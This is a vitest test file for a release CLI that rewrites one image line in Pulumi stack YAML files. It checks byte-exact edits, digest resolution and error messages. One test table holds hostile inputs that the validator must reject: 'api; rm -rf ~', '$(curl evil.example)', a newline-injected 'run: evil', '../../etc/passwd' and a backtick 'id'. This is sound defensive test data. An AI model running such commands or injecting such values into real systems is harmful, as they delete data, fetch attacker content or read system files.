import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseDocument } from "yaml";
import { release } from "../ops/cli/release";
import { checkReleaseRequest } from "../ops/offline/release-request";
import { setServiceImage, type ReleaseService } from "../ops/offline/stack-file-edit";
import { resolveDigest } from "../ops/operations/registry";
import { EXIT, UserError } from "../ops/shared/errors";
import { repoStacks, ROOT, STACK_TRACE } from "./helpers/cli";
import { failure } from "./helpers/errors";
import { ThrowawayRepo } from "./helpers/git-repo";
import { tempProject } from "./helpers/project";

/**
 * `npm run release`: one image line of a stack file changes and nothing else
 * (checked byte for byte, and by git's own diff), the request is checked
 * before any file is touched, and a tag is resolved to a digest only where a
 * registry answers.
 */

const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;
const NEW_IMAGE = `ghcr.io/acme/appstack-api@${DIGEST}`;

/** Every stack file the repository has: its own and the test fixtures. */
const stackFiles = [...repoStacks().map((s) => path.join(ROOT, `Pulumi.${s}.yaml`)), ...fs.readdirSync(path.join(ROOT, "test/fixtures")).filter((f) => /^Pulumi\..+\.yaml$/.test(f)).map((f) => path.join(ROOT, "test/fixtures", f))];

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "appstack-release-"));
afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

/** git's own count of what changed between two texts: [added, deleted] lines. */
function gitNumstat(before: string, after: string): [number, number] {
  const [a, b] = [path.join(scratch, "a.yaml"), path.join(scratch, "b.yaml")];
  fs.writeFileSync(a, before);
  fs.writeFileSync(b, after);
  const r = spawnSync("git", ["diff", "--no-index", "--numstat", "--", a, b], { encoding: "utf8" });
  const [added, deleted] = r.stdout.trim().split(/\s+/).map(Number);
  return [added, deleted];
}

/** The one line that differs, with every other byte of the file identical. */
function onlyChangedLine(before: string, after: string): { index: number; old: string; new: string } {
  const [x, y] = [before.split("\n"), after.split("\n")];
  expect(y.length).toBe(x.length);
  const changed = x.flatMap((line, i) => (line === y[i] ? [] : [i]));
  expect(changed).toHaveLength(1);
  const i = changed[0];
  expect(Buffer.from([...x.slice(0, i), ...x.slice(i + 1)].join("\n"))).toEqual(Buffer.from([...y.slice(0, i), ...y.slice(i + 1)].join("\n")));
  return { index: i, old: x[i], new: y[i] };
}

/** The 1-based line of the production stack's API image, as the file has it now. */
const PRODUCTION_API_LINE = fs.readFileSync(path.join(ROOT, "Pulumi.production.yaml"), "utf8").split("\n").findIndex((l) => l.includes("image: ghcr.io/acme/appstack-api:1.4.2")) + 1;

const imageOf = (text: string, service: string) => parseDocument(text).getIn(["config", `appstack:${service}`, "image"]);

describe("release: exactly one line of a stack file changes", () => {
  it("covers every stack file there is", () => {
    expect(stackFiles.map((f) => path.basename(f))).toEqual(expect.arrayContaining(["Pulumi.dev.yaml", "Pulumi.staging.yaml", "Pulumi.production.yaml", "Pulumi.unready.yaml"]));
  });

  for (const file of stackFiles) {
    for (const service of ["api", "worker"] as ReleaseService[]) {
      const text = fs.readFileSync(file, "utf8");
      const doc = parseDocument(text);
      const current = doc.errors.length ? undefined : imageOf(text, service);
      const name = `${path.relative(ROOT, file)} ${service}`;
      if (typeof current === "string") {
        it(`${name}: the image line and nothing else; every comment survives`, () => {
          const edit = setServiceImage(text, { file, project: "appstack", stack: "s", service, image: NEW_IMAGE });
          const line = onlyChangedLine(text, edit.text);
          expect(line.old).toBe(`${line.old.slice(0, line.old.indexOf("image:"))}image: ${current}`);
          expect(line.new).toBe(line.old.replace(current, NEW_IMAGE));
          expect(edit).toMatchObject({ previous: current, line: line.index + 1 });
          expect(gitNumstat(text, edit.text)).toEqual([1, 1]);
          expect(edit.text.match(/#.*$/gm)).toEqual(text.match(/#.*$/gm));
          expect(imageOf(edit.text, service)).toBe(NEW_IMAGE);
        });
      } else if (!doc.errors.length && doc.getIn(["config", `appstack:${service}`])) {
        it(`${name}: no image line to change, so nothing changes, with the reason`, () => {
          const err = failure(() => setServiceImage(text, { file, project: "appstack", stack: "s", service, image: NEW_IMAGE }));
          expect(err.exitCode).toBe(EXIT.usage);
          expect(err.message).toMatch(/builds its \w+ image from source|runs the API's image|sets no/);
          expect(err.message).toContain("Nothing was changed.");
        });
      }
    }
  }

  it("keeps what a rewrite would lose: a comment on the line, quotes, a flow mapping, CRLF line ends", () => {
    const text = [
      "# hand-written",
      "config:",
      "  appstack:environment: staging   # keep",
      '  appstack:api: {image: "ghcr.io/acme/api:1.4.2", port: 3000}  # flow',
      "  appstack:worker:",
      '    command: [ "node",   "w.js" ]',
      "    image: 'ghcr.io/acme/worker:1.4.2'   # pinned by CI",
      "",
    ].join("\r\n");
    for (const service of ["api", "worker"] as const) {
      const edit = setServiceImage(text, { file: "Pulumi.x.yaml", project: "appstack", stack: "x", service, image: NEW_IMAGE });
      const line = onlyChangedLine(text, edit.text);
      expect(line.new).toBe(line.old.replace(/ghcr\.io\/acme\/\w+:1\.4\.2/, NEW_IMAGE));
      expect(gitNumstat(text, edit.text)).toEqual([1, 1]);
    }
  });

  it("a file that is not one valid YAML document is not touched", () => {
    const err = failure(() => setServiceImage("config:\n  a: [\n", { file: "Pulumi.x.yaml", project: "appstack", stack: "x", service: "api", image: NEW_IMAGE }));
    expect(err.message).toMatch(/^Pulumi\.x\.yaml is not a single valid YAML document.*it was not changed\.$/);
  });
});

describe("release: the request is checked before any file is read", () => {
  const hostile: [string, Record<string, string>, RegExp][] = [
    ["a service it does not release", { service: "postgres" }, /--service must be one of api, worker/],
    ["a shell command as the service", { service: "api; rm -rf ~" }, /--service must be one of api, worker/],
    ["command substitution as the image", { image: "$(curl evil.example)" }, /is not an image reference/],
    ["a second line in the image", { image: `${NEW_IMAGE}\nrun: evil` }, /is not an image reference/],
    ["a path as the stack", { stack: "../../etc/passwd" }, /is not a valid stack name/],
    ["a stack without a file", { stack: "qa" }, /Unknown stack "qa"/],
    ["a tag with a shell character", { image: "ghcr.io/acme/api", tag: "1.5.0`id`" }, /--tag "1\.5\.0`id`" is not an image tag/],
    ["a tag and an image that has one", { image: "ghcr.io/acme/api:1.4.2", tag: "1.5.0" }, /With --tag, --image names the repository alone/],
  ];
  for (const [what, over, message] of hostile) {
    it(what, () => {
      const err = failure(() => checkReleaseRequest(ROOT, { stack: "staging", service: "api", image: NEW_IMAGE, ...over }));
      expect(err.exitCode).toBe(EXIT.usage);
      expect(err.message).toMatch(message);
    });
  }
});

describe("release: the stack file after the change must still validate", () => {
  it("production refuses a moving tag: the file is left exactly as it was, exit 1", async () => {
    const original = fs.readFileSync(path.join(ROOT, "Pulumi.production.yaml"), "utf8");
    const root = tempProject({ "Pulumi.production.yaml": original });
    const err = await release({ root, stack: "production", service: "api", image: "ghcr.io/acme/appstack-api:latest", diff: false, log: () => undefined }).catch((e) => e);
    expect(err).toBeInstanceOf(UserError);
    expect(err.exitCode).toBe(EXIT.invalidConfig);
    expect(err.message).toContain("production needs an immutable image");
    expect(err.message).toContain("Pulumi.production.yaml was left as it was.");
    expect(fs.readFileSync(path.join(root, "Pulumi.production.yaml"), "utf8")).toBe(original);
  });

  it("the same image again changes nothing", async () => {
    const root = tempProject({ "Pulumi.production.yaml": fs.readFileSync(path.join(ROOT, "Pulumi.production.yaml"), "utf8") });
    const lines: string[] = [];
    expect(await release({ root, stack: "production", service: "api", image: "ghcr.io/acme/appstack-api:1.4.2", diff: false, log: (l) => lines.push(l) })).toBe(EXIT.ok);
    expect(lines).toEqual([`Stack "production" already runs ghcr.io/acme/appstack-api:1.4.2 for api (Pulumi.production.yaml, line ${PRODUCTION_API_LINE}); nothing was changed.`]);
  });
});

describe("release --tag: a digest only from a registry that answers", () => {
  it("no registry answers (none is reachable from here): exit 17, says so, and how to give the digest instead", async () => {
    // .invalid never resolves (RFC 6761), on this machine or any other.
    const err = await resolveDigest("registry.invalid/acme/api", "1.5.0").catch((e) => e);
    expect(err).toBeInstanceOf(UserError);
    expect(err.exitCode).toBe(EXIT.registry);
    expect(err.message).toMatch(
      /^No registry answered at https:\/\/registry\.invalid \((ENOTFOUND|EAI_AGAIN)\): from this machine the registry cannot be reached, so the tag cannot be resolved to a digest\.\n/,
    );
    expect(err.message).toContain("The stack file was not changed. Give the digest instead: --image registry.invalid/acme/api:1.5.0@sha256:<digest>");
  });

  it("a reference that names no registry (Docker Hub's short names) is refused before any request", async () => {
    const err = await resolveDigest("acme/api", "1.5.0").catch((e) => e);
    expect(err.exitCode).toBe(EXIT.registry);
    expect(err.message).toContain('--tag needs a reference that names its registry (ghcr.io/acme/api, registry.example.com:5000/api); "acme/api" names none.');
  });
});

describe("npm run release, as the release workflow runs it", { timeout: 120_000 }, () => {
  let repo: ThrowawayRepo;
  beforeAll(() => {
    repo = new ThrowawayRepo();
    repo.commit("the stacks as they are");
  });
  afterAll(() => repo?.remove());

  it("changes the image line, says which, and shows the offline diff against HEAD; exit 0", () => {
    const before = repo.read("Pulumi.production.yaml");
    const r = repo.ops(["release", "--stack", "production", "--service", "api", "--image", NEW_IMAGE]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(EXIT.ok);
    expect(r.stdout).toContain(`Stack "production": appstack:api.image ghcr.io/acme/appstack-api:1.4.2 -> ${NEW_IMAGE} (Pulumi.production.yaml, line ${PRODUCTION_API_LINE}; no other line changed).`);
    expect(r.stdout).toContain("### Offline diff: stack `production`");
    expect(r.stdout).toMatch(/\| replace \| `api-image` \| docker RemoteImage \| `name` \|/);
    expect(gitNumstat(before, repo.read("Pulumi.production.yaml"))).toEqual([1, 1]);
    expect(repo.git(["diff", "--numstat"])).toBe("1\t1\tPulumi.production.yaml");
  });

  it("--tag where no registry answers: exit 17, the file unchanged, no stack trace", () => {
    repo.git(["checkout", "--", "."]);
    const r = repo.ops(["release", "--stack", "staging", "--service", "api", "--image", "registry.invalid/acme/api", "--tag", "1.5.0"]);
    expect(r.code).toBe(EXIT.registry);
    expect(r.stderr).toContain("No registry answered at https://registry.invalid");
    expect(r.stderr).not.toMatch(STACK_TRACE);
    expect(repo.git(["status", "--porcelain"])).toBe("");
  });
});
